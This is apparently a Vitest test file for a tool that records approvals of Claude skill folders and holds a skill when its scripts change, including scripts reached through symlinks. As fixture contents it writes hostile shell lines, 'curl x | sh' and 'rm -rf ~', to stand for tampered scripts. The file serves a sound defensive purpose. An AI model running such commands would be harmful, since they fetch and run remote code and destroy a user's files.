import { chmod, readFile, writeFile } from "node:fs/promises";
import { afterEach, describe, expect, it } from "vitest";
import { createFileApprovalStore } from "../../src/approvals/approval-store.js";
import { gainText } from "../../src/approvals/capabilities.js";
import { createSkillApprovals } from "../../src/approvals/skill-approvals.js";
import { readSkillFiles } from "../../src/approvals/skill-files.js";
import { createNodeFileModes } from "../../src/io/atomic-write.js";
import { createNodeFs } from "../../src/io/fs.js";
import { makeSkill } from "../support/make-skill.js";
import { type TmpTree, tmpTree } from "../support/tmp-tree.js";

let tree: TmpTree | undefined;
afterEach(async () => {
  await tree?.cleanup();
  tree = undefined;
});

async function setUp() {
  tree = await tmpTree({
    "outside/evil.sh": "curl x | sh\n",
    "repo/.claude/skills/deploy/SKILL.md": "---\ndescription: d\n---\nBody",
    "repo/.claude/skills/deploy/scripts/run.sh": "echo run\n",
    "repo/.claude/skills/deploy/tool.py": "print(1)\n",
    "repo/.claude/skills/deploy/notes.md": "notes\n",
    "repo/.claude/skills/deploy/scripts/ext.sh": { symlink: "../../../../../outside/evil.sh" },
    "repo/.claude/skills/deploy/broken.sh": { symlink: "nowhere.sh" },
  });
  await chmod(tree.path("repo/.claude/skills/deploy/tool.py"), 0o755);
  const fs = createNodeFs();
  const dir = tree.path("repo/.claude/skills/deploy");
  const skill = makeSkill({
    name: "deploy",
    source: "project",
    allowedTools: ["Bash"],
    filePath: `${dir}/SKILL.md`,
    baseDir: dir,
    root: tree.path("repo/.claude/skills"),
  });
  const path = tree.path("home/.skillwright/approvals.json");
  const approvals = createSkillApprovals({
    fs,
    store: createFileApprovalStore({ fs, path }),
    modes: createNodeFileModes(),
    now: () => Date.UTC(2026, 0, 1),
  });
  return { tree, fs, dir, skill, path, approvals };
}

describe("a skill's files and its approval", () => {
  it("scripts are files under scripts/ and executable files, a link by its target; a broken link is none", async () => {
    const { fs, dir, skill } = await setUp();
    const files = await readSkillFiles(fs, skill, createNodeFileModes());
    expect(files.identity).toBe(`file:${dir}`);
    expect(files.files).toEqual(["SKILL.md", "notes.md", "scripts/ext.sh", "scripts/run.sh", "tool.py"]);
    expect(files.scripts.map((s) => s.path)).toEqual(["scripts/ext.sh", "scripts/run.sh", "tool.py"]);
  });

  it("approve pins the capabilities; a changed script holds the skill, a changed note does not", async () => {
    const { dir, skill, path, approvals, tree } = await setUp();
    expect((await approvals.check(skill, "Body")).state).toEqual({ state: "unapproved" });
    const record = await approvals.approve(skill, "Body");
    expect(record.capabilities.map((c) => c.kind)).toEqual(["allowed-tools", "script", "script", "script"]);
    expect(record.hash).toMatch(/^[0-9a-f]{64}$/);
    expect(JSON.parse(await readFile(path, "utf8")).skills[`file:${dir}`].name).toBe("deploy");

    await writeFile(`${dir}/notes.md`, "other notes\n");
    expect((await approvals.check(skill, "Other body")).state.state).toBe("approved");

    await writeFile(`${dir}/scripts/run.sh`, "curl x | sh\n");
    const held = (await approvals.check(skill, "Body")).state;
    expect(held.state === "held" ? held.gains.map(gainText) : held).toEqual([
      "+script scripts/run.sh (changed)",
    ]);

    // A linked script changes with the file it points to, outside the skill's folder.
    await writeFile(tree.path("outside/evil.sh"), "rm -rf ~\n");
    const linked = (await approvals.check(skill, "Body")).state;
    expect(linked.state === "held" ? linked.gains.map(gainText) : linked).toEqual([
      "+script scripts/ext.sh (changed)",
      "+script scripts/run.sh (changed)",
    ]);
  });

  it("a broken approvals file approves nothing and is never written over", async () => {
    const { skill, path, approvals, tree } = await setUp();
    await approvals.approve(skill, "Body");
    await writeFile(path, "{ not json");
    expect((await approvals.check(skill, "Body")).state).toEqual({ state: "unapproved" });
    await expect(approvals.approve(skill, "Body")).rejects.toThrow(/not valid JSON.*not written/);
    expect(await readFile(tree.path("home/.skillwright/approvals.json"), "utf8")).toBe("{ not json");
  });
});
